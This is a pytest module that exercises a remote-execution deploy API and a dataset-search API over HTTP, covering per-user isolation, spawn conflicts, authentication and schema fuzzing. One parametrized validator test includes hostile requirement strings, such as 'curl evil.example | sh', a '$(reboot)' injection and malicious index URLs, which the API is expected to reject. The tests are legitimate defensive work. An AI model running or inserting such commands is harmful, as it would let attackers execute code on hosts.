"""Deploy API and EP API under real uvicorn servers, driven over HTTP with ``requests``
exactly as the released clients drive them (ndp-ep 0.9.0 session with a Bearer header;
scidx-rexec 0.1.0 form posts), plus schemathesis against both OpenAPI schemas.

The orchestrator is the in-memory fake (provisioning is tested with the real
orchestrators elsewhere); identity is a static token table.
"""

from __future__ import annotations

import contextlib

import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from schemathesis import GenerationMode

from tests.helpers.http import run_uvicorn
from zexec.adapters.auth_static import StaticAuthenticator
from zexec.adapters.catalog_sqlite import SAMPLE_DATASETS, SqliteCatalog, load_seed_file
from zexec.adapters.orchestrator_memory import InMemoryOrchestrator
from zexec.apps import deploy_api, ep_api
from zexec.settings import DeploySettings, EPSettings

TOKENS = {
    "tok-alice": {"sub": "u-alice", "username": "alice", "groups": ["researchers"]},
    "tok-bob": {"sub": "u-bob", "username": "bob", "groups": ["researchers"]},
}
PY = "python==3.11"


class PolledBuild(InMemoryOrchestrator):
    """New servers start ``pending`` and reach ``ready`` after a few status polls, so a
    legacy spawn has to wait for readiness the way it would on a real orchestrator."""

    def __init__(self, polls: int = 3):
        super().__init__(initial_phase="pending")
        self.polls = polls
        self.left: dict[str, int] = {}

    def ensure(self, user, spec, force=False):
        st_ = super().ensure(user, spec, force)
        if st_.phase == "pending":
            self.left[user.user_id] = self.polls
        return st_

    def status(self, user_id):
        n = self.left.get(user_id)
        if n is not None:
            self.left[user_id] = n - 1
            if n - 1 <= 0:
                del self.left[user_id]
                self.advance(user_id, "ready")
            elif n - 1 == 1:
                self.advance(user_id, "installing", log_tail=["Installing packages"])
        return super().status(user_id)


def fake_login(username, password):
    from zexec.core.errors import Unauthenticated

    if (username, password) != ("alice", "pw"):
        raise Unauthenticated("invalid username or password")
    return {"access_token": "tok-alice"}


@contextlib.contextmanager
def stack(orchestrator, login=None):
    auth = StaticAuthenticator(TOKENS)
    dapp = deploy_api.create_app(
        DeploySettings(
            orchestrator="memory",
            broker_external_host="broker.test",
            broker_external_port=5559,
            legacy_spawn_wait=120,
        ),
        orchestrator,
        auth,
    )
    catalog = SqliteCatalog(seed=load_seed_file(SAMPLE_DATASETS))
    with run_uvicorn(dapp) as deploy_url:
        eapp = ep_api.create_app(EPSettings(deploy_api_url=deploy_url), catalog, auth, login=login)
        with run_uvicorn(eapp) as ep_url:
            yield ep_url, deploy_url


@pytest.fixture(scope="module")
def urls():
    orch = PolledBuild()
    with stack(orch) as (ep_url, deploy_url):
        yield ep_url, deploy_url, orch


def ndp_session(token):
    s = requests.Session()
    s.headers.update({"Authorization": f"Bearer {token}"})
    return s


def rexec_url(ep_url, session):
    """What ndp_ep's _resolve_rexec_url does."""
    url = session.get(f"{ep_url}/status/rexec").json()["deployment_api_url"].rstrip("/")
    return url if url.endswith("/rexec") else url + "/rexec"


def legacy_spawn(url, reqs, token, force=False):
    """scidx-rexec's remote_func.set_environment: a plain form POST, no session."""
    return requests.post(
        f"{url}/spawn", data={"requirments": reqs, "force_reinstall": force, "token": token}
    )


def legacy_terminate(url, token):
    return requests.delete(f"{url}/terminate", data={"token": token})


def test_ndp_ep_flow_discovery_spawn_broker_config_terminate(urls):
    ep_url, _, orch = urls
    s = ndp_session("tok-alice")
    version = s.get(f"{ep_url}/status/").json()["version"]
    assert tuple(int(p) for p in version.split(".")) >= (0, 2, 0)
    assert s.get(f"{ep_url}/user/info").json()["username"] == "alice"
    url = rexec_url(ep_url, s)
    r = legacy_spawn(url, [PY, "numpy"], "tok-alice")
    assert r.status_code == 200 and r.json()["phase"] == "ready", r.text  # waited for it
    cfg = s.get(f"{url}/broker-config").json()
    assert (cfg["broker_external_host"], cfg["broker_external_port"]) == ("broker.test", 5559)
    r = legacy_terminate(url, "tok-alice")
    assert r.ok and r.json()["terminated"] is True
    assert "u-alice" not in orch.servers


def test_alice_cannot_see_or_terminate_bobs_server(urls):
    ep_url, _, orch = urls
    url = rexec_url(ep_url, ndp_session("tok-bob"))
    assert legacy_spawn(url, [PY], "tok-bob").status_code == 200
    alice = ndp_session("tok-alice")
    assert alice.get(f"{url}/status").status_code == 404
    assert legacy_terminate(url, "tok-alice").json()["terminated"] is False
    assert (
        requests.delete(
            f"{url}/terminate",
            headers={"Authorization": "Bearer tok-alice"},
            data={"user_id": "u-bob"},
        ).json()["terminated"]
        is False
    )
    assert orch.servers["u-bob"].phase == "ready"
    bob = ndp_session("tok-bob").get(f"{url}/status").json()
    assert bob["user"] == "bob" and bob["env"]["python"] == "3.11"
    assert legacy_terminate(url, "tok-bob").json()["terminated"] is True


def test_idempotent_conflict_and_force_over_http(urls):
    ep_url, _, orch = urls
    url = rexec_url(ep_url, ndp_session("tok-alice"))
    assert legacy_spawn(url, [PY, "requests>=2"], "tok-alice").json()["outcome"] == "created"
    again = legacy_spawn(url, ["requests>=2", PY], "tok-alice")
    assert again.status_code == 200 and again.json()["outcome"] == "unchanged"
    conflict = legacy_spawn(url, [PY, "pandas"], "tok-alice")
    assert conflict.status_code == 409
    assert "force_reinstall=True" in conflict.json()["detail"]
    forced = legacy_spawn(url, [PY, "pandas"], "tok-alice", force=True)
    assert forced.status_code == 200 and forced.json()["outcome"] == "replaced"
    assert orch.servers["u-alice"].env.requirements == ("pandas",)
    legacy_terminate(url, "tok-alice")


@pytest.mark.parametrize(
    "reqs, reason",
    [
        ([PY, "evil @ https://evil.example/evil.whl"], "URL"),
        ([PY, "https://evil.example/evil.tar.gz"], "URL"),
        ([PY, "--extra-index-url https://evil.example/simple"], "pip option"),
        ([PY, "-r other.txt"], "pip option"),
        ([PY, "numpy; curl evil.example | sh"], "shell"),
        ([PY, "numpy$(reboot)"], "shell"),
        ([PY, "numpy\nscipy"], "line break"),
        (["numpy"], "missing pin"),
        (["python>=3.10", "numpy"], "loose pin"),
        (["python~=3.11"], "loose pin"),
    ],
)
def test_bad_requirements_are_422_with_the_reason(urls, reqs, reason):
    ep_url, _, orch = urls
    url = rexec_url(ep_url, ndp_session("tok-alice"))
    calls = len(orch.calls)
    r = legacy_spawn(url, reqs, "tok-alice")
    assert r.status_code == 422, (reason, r.text)
    assert isinstance(r.json()["detail"], str) and len(r.json()["detail"]) > 20
    assert len(orch.calls) == calls


def test_unauthenticated_requests_get_401_with_a_message(urls):
    ep_url, deploy_url, _ = urls
    r = legacy_spawn(f"{deploy_url}/rexec", [PY], "not-a-token")
    assert r.status_code == 401 and "token" in r.json()["detail"]
    assert legacy_terminate(f"{deploy_url}/rexec", "nope").status_code == 401
    assert requests.get(f"{ep_url}/user/info").status_code == 401


def test_dataset_search_as_ndp_ep_sends_it(urls):
    ep_url, _, _ = urls
    s = ndp_session("tok-alice")
    r = s.get(f"{ep_url}/search", params={"terms": ["seismic", "waveforms"], "server": "global"})
    assert [d["name"] for d in r.json()] == ["earthscope-seismic-waveforms-ta"]
    r = s.get(
        f"{ep_url}/search",
        params={"terms": ["usgs", "streamflow"], "server": "local", "keys": ["owner_org", "null"]},
    )
    assert [d["name"] for d in r.json()] == ["usgs-nwis-streamflow-ca"]
    r = s.post(f"{ep_url}/search", json={"search_term": "ndvi", "server": "local"})
    assert [d["name"] for d in r.json()] == ["nasa-modis-ndvi-16day"]


# ---------------------------------------------------------------------- schemathesis

#: Examples per operation and generation mode: small, so both schemas run in seconds.
MAX_EXAMPLES = 50


def fuzz_no_server_errors(base_url: str, openapi_path: str = "/openapi.json") -> int:
    """Run every operation of the schema at ``base_url`` with generated valid and invalid
    requests (with and without a valid Bearer token); fail on any 5xx. Returns how many
    operations were exercised."""
    schema = schemathesis.openapi.from_url(base_url + openapi_path)
    headers = st.sampled_from(
        [{}, {"Authorization": "Bearer tok-alice"}, {"Authorization": "Bearer tok-bob"}]
    )
    count = 0
    for result in schema.get_all_operations():
        op = result.ok()
        cases = st.one_of(
            op.as_strategy(GenerationMode.POSITIVE), op.as_strategy(GenerationMode.NEGATIVE)
        )

        @settings(
            max_examples=MAX_EXAMPLES,
            deadline=None,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        @given(case=cases, auth=headers)
        def check(case, auth):
            resp = case.call(base_url=base_url, headers=auth)
            assert resp.status_code < 500, (
                f"{case.operation.label}: {resp.status_code} {resp.text[:300]} for {case.as_curl_command()}"
            )

        check()
        count += 1
    return count


def test_schemathesis_finds_no_server_errors_in_either_api():
    # With a login service configured: unconfigured, /user/login is a deliberate 501.
    with stack(InMemoryOrchestrator(initial_phase="ready"), fake_login) as (ep_url, deploy_url):
        assert fuzz_no_server_errors(deploy_url) >= 6
        assert fuzz_no_server_errors(ep_url) >= 8
